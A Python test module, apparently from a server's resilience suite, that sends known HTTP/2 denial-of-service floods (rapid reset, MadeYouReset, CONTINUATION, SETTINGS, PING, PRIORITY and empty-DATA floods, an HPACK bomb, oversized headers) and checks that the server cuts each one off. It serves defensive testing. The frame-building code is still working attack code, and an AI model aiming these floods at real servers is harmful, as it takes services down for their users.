"""HTTP/2 frames that cost the sender next to nothing (RFC 9113 §10.5), from a stranger with a certificate."""

import collections
import itertools
import struct

from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame

import wire
from attacker import case, expect

MB = 1024 * 1024


def flood(target, clock, blobs, most=50):
    """Sends blobs() on one connection after the other, up to `most` on each, and then waits for the server's word.

    Returns how often each end was seen, and how many blobs were sent. The answers are not read meanwhile."""
    ends, sent = collections.Counter(), 0
    while clock.running() or not ends:
        with wire.H2(target, target.stranger, timeout=1.0) as connection:
            for blob in itertools.islice(blobs(), most):
                try:
                    if not connection.send(blob):
                        break
                except TimeoutError:
                    connection.end = "not read any more"
                    break
                sent += 1
            connection.wait_for_end(2)
            ends[connection.goaway or connection.end] += 1
    return ends, sent


def told(ends, sent, what):
    seen = ", ".join(f"{count} x {end}" for end, count in ends.most_common())
    return f"{sent} x {what}: {seen}"


def only(ends, *allowed):
    """Every connection must have ended in one of these ways."""
    others = [end for end in ends if not str(end).startswith(allowed)]
    expect(None not in ends, f"the server let the flood go on: {dict(ends)}")
    expect(not others, f"connections ended otherwise: {dict(ends)}")


CLOSED = ("closed", "not read", "ENHANCE_YOUR_CALM", "Connection reset", "Broken pipe", "EOF", "UNEXPECTED_EOF")


@case("rapid-reset", memory=16 * MB)
def rapid_reset(target, clock):
    """Requests that are reset at once (CVE-2023-44487)."""
    def blobs():
        stream = 1
        while True:
            yield b"".join(wire.request(s) + RstStreamFrame(s, error_code=8).serialize()
                           for s in range(stream, stream + 200, 2))
            stream += 200
    ends, sent = flood(target, clock, blobs)
    only(ends, "INTERNAL_ERROR", "ENHANCE_YOUR_CALM")
    return told(ends, sent, "100 requests and resets")


@case("server-reset", memory=16 * MB)
def server_reset(target, clock):
    """Requests for the key store, made so that the server resets them (CVE-2025-8671, "MadeYouReset")."""
    ends, sent = collections.Counter(), 0
    while clock.running():
        with wire.H2(target, target.insider) as connection:
            for start in range(1, 10000, 100):
                blob = b"".join(wire.request(s, "GET", "/v1/key/list/") + wire.window_update(s, 2**31 - 1)
                                for s in range(start, start + 100, 2))
                if not clock.running() or not connection.send(blob):
                    break
                sent += 50
                connection.until(lambda: start + 98 in connection.resets, 5)
                connection.frames.clear()
            ends[connection.goaway or connection.end or "served"] += 1
            expect(connection.end is not None or connection.answered_ping(), "the connection no longer serves")
    only(ends, "INTERNAL_ERROR", "ENHANCE_YOUR_CALM", "PROTOCOL_ERROR", "served", "closed")
    return told(ends, sent, "requests reset by the server")


@case("continuation-flood", memory=16 * MB)
def continuation_flood(target, clock):
    """A header block that never ends (CVE-2024-27316)."""
    piece = b"".join(wire.literal(f"x{i}", "y" * 100) for i in range(100))
    def blobs():
        yield wire.headers(1, wire.head())
        while True:
            yield ContinuationFrame(1, piece).serialize() * 10
    ends, sent = flood(target, clock, blobs)
    only(ends, *CLOSED)
    return told(ends, sent, "10 CONTINUATION")


@case("empty-continuation-flood", memory=16 * MB)
def empty_continuation_flood(target, clock):
    """A header block that never ends and never grows."""
    def blobs():
        yield wire.headers(1, wire.head())
        while True:
            yield ContinuationFrame(1, b"").serialize() * 1000
    ends, sent = flood(target, clock, blobs)
    only(ends, *CLOSED)
    return told(ends, sent, "1000 empty CONTINUATION")


@case("settings-flood", memory=16 * MB)
def settings_flood(target, clock):
    """SETTINGS that want acknowledgements nobody reads (CVE-2019-9515)."""
    blob = wire.settings({1: 4096}) * 1000
    def blobs():
        while True:
            yield blob
    ends, sent = flood(target, clock, blobs)
    only(ends, *CLOSED)
    return told(ends, sent, "1000 SETTINGS")


@case("settings-flood-read", memory=16 * MB)
def settings_flood_read(target, clock):
    """SETTINGS whose acknowledgements are read: nothing piles up, so all it costs is a share of the server."""
    blob = wire.settings({1: 0, 4: 1000}) * 100
    sent = 0
    with wire.H2(target, target.stranger) as connection:
        while clock.running() and connection.send(blob):
            sent += 1
            connection.until(lambda: len(connection.frames) >= 100, 5)
            connection.frames.clear()
        expect(connection.answered_ping(), f"the connection no longer serves: {connection.goaway or connection.end}")
    return f"{sent} x 100 SETTINGS: borne"


@case("huge-settings", memory=16 * MB)
def huge_settings(target, clock):
    """SETTINGS with thousands of entries."""
    payload = struct.pack("!HI", 99, 1) * 2700
    blob = struct.pack("!I", len(payload))[1:] + b"\x04\x00" + b"\x00\x00\x00\x00" + payload
    def blobs():
        while True:
            yield blob
    ends, sent = flood(target, clock, blobs)
    only(ends, "ENHANCE_YOUR_CALM")
    return told(ends, sent, "SETTINGS of 2700 entries")


@case("ping-flood", memory=16 * MB)
def ping_flood(target, clock):
    """PINGs whose answers nobody reads (CVE-2019-9512)."""
    blob = PingFrame(0, opaque_data=b"abuse!!!").serialize() * 1000
    def blobs():
        while True:
            yield blob
    ends, sent = flood(target, clock, blobs)
    only(ends, *CLOSED)
    return told(ends, sent, "1000 PING")


@case("priority-flood", memory=16 * MB)
def priority_flood(target, clock):
    """PRIORITY of thousands of streams that never were, in chains (CVE-2019-9513)."""
    blob = b"".join(PriorityFrame(stream, depends_on=stream - 2, stream_weight=stream % 255,
                                  exclusive=stream % 4 == 3).serialize() for stream in range(3, 2003, 2))
    sent = 0
    with wire.H2(target, target.stranger) as connection:
        while clock.running() and connection.send(blob):
            sent += 1
        alive = connection.answered_ping()
        expect(alive or connection.goaway, f"the connection ended without a word: {connection.end}")
    return f"{sent} x 1000 PRIORITY: {'ignored' if alive else connection.goaway}"


@case("window-update-flood", memory=16 * MB)
def window_update_flood(target, clock):
    """WINDOW_UPDATE of one byte each, of the connection and of streams that are gone."""
    blob = b"".join(wire.window_update(stream, 1) for stream in (0, 1) * 500)
    sent = 0
    with wire.H2(target, target.stranger) as connection:
        connection.send(wire.request(1))
        while clock.running() and connection.send(blob):
            sent += 1
        alive = connection.answered_ping()
        expect(alive or connection.goaway, f"the connection ended without a word: {connection.end}")
    return f"{sent} x 1000 WINDOW_UPDATE: {'borne' if alive else connection.goaway}"


@case("empty-data-flood", memory=16 * MB, limits={"body_timeout": "1s"})
def empty_data_flood(target, clock):
    """DATA frames without data (CVE-2019-9518), in a body that the server waits for."""
    blob = wire.data(1, b"") * 1000
    def blobs():
        yield wire.headers(1, wire.head("PUT", "/v1/key/generate/bystander"), "END_HEADERS")
        while True:
            yield blob
    sent, resets = 0, collections.Counter()
    while clock.running() or not resets:
        with wire.H2(target, target.insider) as connection:
            for piece in blobs():
                if not connection.send(piece):
                    break
                sent += 1
                connection.poll()
                if 1 in connection.resets or (resets and not clock.running()):
                    break
            resets[connection.resets.get(1) or connection.goaway or connection.end] += 1
    resets.pop(None, None)
    expect(set(resets) <= {"CANCEL", "ENHANCE_YOUR_CALM"}, f"streams ended otherwise: {dict(resets)}")
    return told(resets, sent, "1000 empty DATA")


@case("hpack-bomb", memory=16 * MB)
def hpack_bomb(target, clock):
    """One large field in the table, then named by one byte thousands of times per request."""
    bomb = wire.head() + wire.indexed_literal("bomb", "x" * 3900) + bytes([0x80 | 62]) * 4000
    outcomes, stream = collections.Counter(), 1
    with wire.H2(target, target.stranger) as connection:
        while clock.running() and connection.end is None:
            connection.send(wire.headers(stream, bomb, "END_HEADERS", "END_STREAM"))
            outcomes[connection.outcome(stream)] += 1
            connection.frames.clear()
            stream += 2
    expect(set(outcomes) <= {431, "ENHANCE_YOUR_CALM"}, f"{dict(outcomes)}")
    return ", ".join(f"{n} requests of 16 MB of fields: {what}" for what, n in outcomes.items())


@case("huge-headers", memory=16 * MB)
def huge_headers(target, clock):
    """Header lists beyond SETTINGS_MAX_HEADER_LIST_SIZE, by little and by far."""
    def blob(kilobytes):
        block = wire.head() + b"".join(wire.literal(f"x-{i}", "y" * 1000) for i in range(kilobytes))
        pieces = [block[i:i + 16000] for i in range(0, len(block), 16000)]
        frames = [HeadersFrame(1, pieces[0], flags=["END_STREAM"])]
        frames += [ContinuationFrame(1, piece) for piece in pieces[1:]]
        frames[-1].flags.add("END_HEADERS")
        return b"".join(frame.serialize() for frame in frames)
    outcomes = collections.Counter()
    while clock.running():
        for kilobytes in (20, 100):
            with wire.H2(target, target.stranger) as connection:
                connection.send(blob(kilobytes))
                outcomes[kilobytes, connection.outcome(1)] += 1
    expect(set(outcomes) <= {(20, 431), (100, 431), (100, "ENHANCE_YOUR_CALM")}, f"{dict(outcomes)}")
    return ", ".join(f"{n} heads of {kb} KB: {what}" for (kb, what), n in outcomes.items())
